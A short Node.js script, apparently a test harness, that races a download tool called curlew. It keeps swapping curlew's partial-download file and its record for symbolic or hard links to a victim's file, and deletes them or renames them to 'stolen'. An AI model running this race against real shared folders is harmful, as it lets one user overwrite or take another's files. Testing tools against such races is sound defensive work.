// An attacker who may write in a folder: replaces curlew's own files there with links to a victim's
// file, as fast as possible, until the process is killed. Run by Node.js: `attacker.mjs FOLDER
// VICTIM`.
import { linkSync, renameSync, symlinkSync, unlinkSync } from "node:fs";
import process from "node:process";

const [, , folder, victim] = process.argv;
const part = `${folder}/.f.bin.curlew-part`, record = `${part}.json`, own = `${folder}/evil`;

const plant = (path, link) => () => {
  link(victim, own);
  renameSync(own, path);
};
const TRICKS = [
  plant(part, symlinkSync),
  plant(record, symlinkSync),
  plant(part, linkSync),
  plant(record, linkSync),
  () => symlinkSync(victim, part),
  () => symlinkSync(victim, record),
  () => unlinkSync(part),
  () => unlinkSync(record),
  () => renameSync(part, `${folder}/stolen`),
];

console.log("ready");
for (let at = 0;; at = (at + 1 + Math.floor(Math.random() * 3)) % TRICKS.length) {
  try {
    TRICKS[at]();
  } catch {
    // the file does not exist, or does already
  }
}
